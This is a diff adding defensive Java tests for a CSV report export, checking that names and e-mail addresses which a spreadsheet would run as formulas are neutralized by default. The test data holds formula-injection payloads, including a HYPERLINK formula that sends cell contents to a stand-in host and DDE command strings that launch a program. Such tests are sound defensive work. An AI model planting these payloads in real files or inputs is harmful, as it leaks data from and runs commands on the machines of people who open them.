@@ -10,6 +10,7 @@ import java.lang.reflect.Proxy;
 import java.util.List;
 import java.util.Optional;
 import java.util.concurrent.atomic.AtomicInteger;
+import java.util.function.Function;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVParser;
 import org.apache.commons.csv.CSVRecord;
@@ -22,11 +23,13 @@ import org.licensekit.core.api.report.ClaimsQuery;
 import org.licensekit.core.api.report.Reports;
 import org.licensekit.core.domain.UserId;
 import org.licensekit.reports.csv.ClaimsCsvExport;
+import org.licensekit.reports.csv.FormulaCells;
 
 /**
  * The claims report exported as CSV and parsed back with Apache Commons CSV gives the report's rows
- * exactly, whatever quotes, commas, line breaks or non-ASCII letters the names hold; the export
- * fetches one page at a time.
+ * exactly, whatever quotes, commas, line breaks or non-ASCII letters the names hold; names and
+ * e-mail addresses a spreadsheet would evaluate as formulas are neutralized unless the export is
+ * told to write them verbatim; the export fetches one page at a time.
  */
 public abstract class ClaimsCsvExportContract extends ReportsTestSupport {
 
@@ -98,6 +101,49 @@ public abstract class ClaimsCsvExportContract extends ReportsTestSupport {
 
     assertThat(written).isEqualTo(5);
     assertThat(pages.get()).isEqualTo(3);
+  }
+
+  /** Names and e-mail addresses a spreadsheet would run as formulas (all accepted at registration). */
+  private static final List<String> HOSTILE_NAMES = List.of(
+      "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Report\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+      "\t=1+1", "\r=1+1", "  =spaced", "'=quoted");
+  private static final List<String> HOSTILE_EMAILS = List.of(
+      "=1+1@example.org", "+cmd@example.org", "-x@example.org", "=cmd|calc!a0@example.org",
+      "ok@example.org", "ok2@example.org", "ok3@example.org", "ok4@example.org");
+
+  private String exportHostile(Function<Reports, ClaimsCsvExport> export) {
+    for (int i = 0; i < HOSTILE_NAMES.size(); i++) {
+      person("h-" + i, HOSTILE_NAMES.get(i), HOSTILE_EMAILS.get(i), DefaultCatalog.ADMINISTRATOR, NORTH);
+    }
+    StringWriter out = new StringWriter();
+    export.apply(reporter().reports()).write(ClaimsQuery.builder().limit(3).build(), out);
+    return out.toString();
+  }
+
+  @Test
+  void formulaNamesAndEmailsAreNeutralizedByDefaultAndReadBackExactly() throws IOException {
+    String csv = exportHostile(ClaimsCsvExport::of);
+
+    List<CSVRecord> records = parse(csv);
+    for (CSVRecord record : records) {
+      for (String cell : record) {
+        assertThat(FormulaCells.triggers(cell)).as("cell %s starts a formula", cell).isFalse();
+      }
+    }
+    assertThat(records).extracting(r -> FormulaCells.original(r.get("user_name")))
+        .containsAll(HOSTILE_NAMES).containsAll(NAMES);
+    assertThat(records).extracting(r -> FormulaCells.original(r.get("email"))).containsAll(HOSTILE_EMAILS);
+    assertThat(records).extracting(r -> r.get("user_name"))
+        .contains("'" + HOSTILE_NAMES.get(0), "'" + HOSTILE_NAMES.get(4), "''=quoted", "Smith, John");
+  }
+
+  @Test
+  void verbatimExportWritesFormulaCellsUnchanged() throws IOException {
+    String csv = exportHostile(reports -> ClaimsCsvExport.of(reports, FormulaCells.VERBATIM));
+
+    List<CSVRecord> records = parse(csv);
+    assertThat(records).extracting(r -> r.get("user_name")).containsAll(HOSTILE_NAMES);
+    assertThat(records).extracting(r -> r.get("email")).containsAll(HOSTILE_EMAILS);
   }
 
   @Test
